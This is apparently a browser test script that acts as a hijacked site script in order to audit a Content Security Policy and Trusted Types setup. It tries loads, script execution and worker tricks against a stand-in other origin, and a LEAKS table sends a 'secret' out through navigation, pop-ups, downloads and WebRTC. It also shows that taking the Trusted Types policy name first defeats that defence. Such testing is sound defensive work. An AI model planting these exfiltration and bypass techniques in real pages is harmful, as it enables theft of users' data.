// What a replaced script of the site could try; the stage serves it in place of theme.js, the first script of every page.
// `stage` (the other origin, the name of the Trusted Types policy, a STUN server, how long to wait for a violation) stands in a line before this one.
/* global stage */
const told = [];
addEventListener('securitypolicyviolation', ({ effectiveDirective }) => told.push(effectiveDirective));
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const at = (name) => `${stage.other}/${name}`;
/** The first script of a page can take the policy's name before the site does, so Trusted Types alone hold no script of ours. */
const same = (value) => value;
const types = globalThis.trustedTypes?.createPolicy(stage.policy, {
  createHTML: same,
  createScript: same,
  createScriptURL: same,
}) ?? { createHTML: same, createScript: same, createScriptURL: same };

function add(tag, properties) {
  const element = Object.assign(document.createElement(tag), properties);
  document.body.append(element);
  return element;
}

/** Acts by name; each gives whether it took effect, unless the other origin sees that. */
const ACTS = {
  fetch: () => void fetch(at('fetch')).catch(() => {}),
  xhr() {
    const request = new XMLHttpRequest();
    request.open('GET', at('xhr'));
    request.send();
  },
  websocket: () => void new WebSocket(at('websocket').replace('http', 'ws')),
  eventsource: () => void new EventSource(at('eventsource')),
  beacon: () => void navigator.sendBeacon(at('beacon'), 'x'),
  image: () => void add('img', { src: at('image') }),
  frame: () => void add('iframe', { src: at('frame') }),
  object: () => void add('object', { data: types.createScriptURL(at('object')), type: 'text/html' }),
  media: () => void add('audio', { src: at('media'), preload: 'auto' }),
  font: () => void new FontFace('planted', `url(${at('font')})`).load().catch(() => {}),
  stylesheet: () => void add('link', { rel: 'stylesheet', href: at('stylesheet') }),
  'inline-style': () => isRed(add('style', { textContent: 'body { color: rgb(255, 0, 0) }' })),
  'style-attribute'() {
    document.body.setAttribute('style', 'color: rgb(255, 0, 0)');
    return isRed(document.body, () => document.body.removeAttribute('style'));
  },
  script: () => void add('script', { src: types.createScriptURL(at('script')) }),
  module: () => void import(at('module')).catch(() => {}),
  'inline-script'() {
    add('script', { textContent: types.createScript('globalThis.inlineRan = true') });
    return globalThis.inlineRan === true;
  },
  'event-attribute'() {
    const button = add('button', {});
    button.setAttribute('onclick', types.createScript('globalThis.attributeRan = true'));
    button.click();
    return globalThis.attributeRan === true;
  },
  eval() {
    (0, eval)(types.createScript('globalThis.evalRan = true'));
    return globalThis.evalRan === true;
  },
  worker: () => starts(() => new Worker(types.createScriptURL('data:text/javascript,postMessage(1)'))),
  base() {
    const base = add('base', { href: at('base/') });
    const moved = document.baseURI.startsWith(stage.other);
    base.remove();
    return moved;
  },
  form() {
    add('iframe', { name: 'sink' });
    add('form', { action: at('form'), target: 'sink', method: 'post' }).submit();
  },
  markup() {
    const element = document.createElement('p');
    element.innerHTML = '<b>x</b>';
    return element.firstChild !== null;
  },
  'worker-string': () => starts(() => new Worker(blob('postMessage("started")'))),
  'other-policy'() {
    globalThis.trustedTypes.createPolicy('other', {});
    return true;
  },
};

function isRed(element, undo = () => element.remove()) {
  const red = getComputedStyle(document.body).color === 'rgb(255, 0, 0)';
  undo();
  return red;
}

function blob(code) {
  return URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
}

function starts(make) {
  return new Promise((resolve) => {
    const worker = make();
    worker.onmessage = () => resolve(true);
    worker.onerror = () => resolve(false);
  });
}

/** The same inside a worker that starts from a Blob, as the site's own do. */
const workerActs = (expected) => `
const stage = ${JSON.stringify(stage)};
const told = [];
addEventListener('securitypolicyviolation', ({ effectiveDirective }) => told.push(effectiveDirective));
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const same = (value) => value;
const types = globalThis.trustedTypes?.createPolicy(${JSON.stringify(stage.policy)}, { createScript: same, createScriptURL: same })
  ?? { createScript: same, createScriptURL: same };
const ACTS = {
  'worker fetch': () => void fetch('${stage.other}/worker%20fetch').catch(() => {}),
  'worker import': () => void importScripts(types.createScriptURL('${stage.other}/worker%20import')),
  'worker eval'() {
    (0, eval)(types.createScript('globalThis.evalRan = true'));
    return globalThis.evalRan === true;
  },
  'worker eval-string'() {
    (0, eval)('globalThis.stringRan = true');
    return globalThis.stringRan === true;
  },
};
${run.toString()}
run(ACTS, ${JSON.stringify(expected)}).then(postMessage);
`;

/** Runs acts one after the other, each until its violation is told: whether it took effect, and what it violated. */
async function run(acts, expected) {
  const outcomes = {};
  for (const [name, act] of Object.entries(acts)) {
    told.length = 0;
    // what throws was refused
    const effect = await Promise.resolve()
      .then(act)
      .catch(() => false);
    for (let waited = 0; waited < stage.patience && !told.includes(expected[name]); waited += 20) await wait(20);
    outcomes[name] = { effect: effect === true, violated: [...new Set(told)] };
  }
  return outcomes;
}

/** What no directive holds: each takes a secret along to the other origin. */
const LEAKS = {
  navigation: () => void (location.href = at('navigation?secret')),
  window: () => void open(at('window?secret')),
  download: () => add('a', { href: at('download?secret'), download: 'x' }).click(),
  async webrtc() {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stage.stun}` }] });
    connection.createDataChannel('planted');
    await connection.setLocalDescription(await connection.createOffer());
  },
  'own-origin': () => void fetch('/told/own-origin?secret'),
};

/** Tells the stage how another page holds this one. */
void fetch(`/told/${parent === window ? (opener === null ? 'alone' : 'opened with its opener') : 'framed'}`);

globalThis.planted = {
  /** Both take the directive that each act is expected to violate. */
  page: (expected) => run(ACTS, expected),
  worker: (expected) =>
    new Promise((resolve) => {
      const worker = new Worker(types.createScriptURL(blob(workerActs(expected))));
      worker.onmessage = ({ data }) => resolve(data);
    }),
  /** Whether each act of a replaced service worker took effect, or null for those that the other origin sees. */
  async serviceWorker() {
    const registration = await navigator.serviceWorker.register(types.createScriptURL('/sw.js'));
    await navigator.serviceWorker.ready;
    const outcome = new Promise((resolve) => {
      navigator.serviceWorker.onmessage = ({ data }) => resolve(data);
    });
    registration.active.postMessage('act');
    const outcomes = await outcome;
    await registration.unregister();
    return outcomes;
  },
  leak: (name) => void setTimeout(LEAKS[name], 0),
  hasTrustedTypes: globalThis.trustedTypes !== undefined,
  /** Names of features that this page may use. */
  features: () => document.featurePolicy?.allowedFeatures() ?? null,
  /** Whether a text file of the site runs as a script. */
  text: () => loads('script', { src: types.createScriptURL('/robots.txt') }),
};

function loads(tag, properties) {
  return new Promise((resolve) => {
    add(tag, { ...properties, onload: () => resolve(true), onerror: () => resolve(false) });
  });
}
